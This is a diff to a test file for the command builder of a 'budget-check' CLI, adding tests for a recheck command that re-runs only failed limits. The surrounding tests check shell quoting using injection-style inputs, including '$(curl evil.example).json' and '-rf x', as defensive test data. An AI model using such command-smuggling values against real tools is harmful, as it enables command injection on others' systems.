@@ -1,5 +1,5 @@
 import { expect, it } from "vitest";
-import { commandLine, repeatCommand } from "../../src/run/repeat-command.ts";
+import { commandLine, recheckCommand, repeatCommand } from "../../src/run/repeat-command.ts";
 import { environment, report } from "../fixtures/reports/build.ts";
 
 const sha = "98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071";
@@ -68,5 +68,27 @@ it.each(["it's.json", "a`b", "a|b", "a\\b", "a\nb", "-rf x", "a\u202eb"])(
 it("quotes what a shell would read", () => {
   expect(commandLine(["bundle", "my dist"], [["budget", "$(curl evil.example).json"]])).toBe(
     "npx budget-check bundle 'my dist' --budget '$(curl evil.example).json'",
+  );
+});
+
+it("names the command that checks only the failed limits again, with what the run was asked", () => {
+  const file = ".budget-check/report.json";
+  expect(recheckCommand({}, main, file)).toBe(`npx budget-check --only-failed ${file}`);
+  const request = { budget: "b.json", base: "main", page: ["/cart"], "no-build": true, seed: 7 } as const;
+  expect(
+    recheckCommand({ ...request, page: [...request.page], output: "out" }, main, "out/report.json"),
+  ).toBe(
+    "npx budget-check --budget b.json --only-failed out/report.json --page /cart --no-build --output out",
+  );
+  // A partial check names the report of the whole run again.
+  expect(recheckCommand({ "only-failed": "first.json" }, main, file)).toBe(
+    "npx budget-check --only-failed first.json",
+  );
+  expect(recheckCommand({ shard: { index: 1, count: 2 } }, main, file)).toBeUndefined();
+});
+
+it("repeats a partial check without base, which the report names", () => {
+  expect(repeatCommand({ "only-failed": "first.json" }, main)).toBe(
+    "npx budget-check --only-failed first.json",
   );
 });
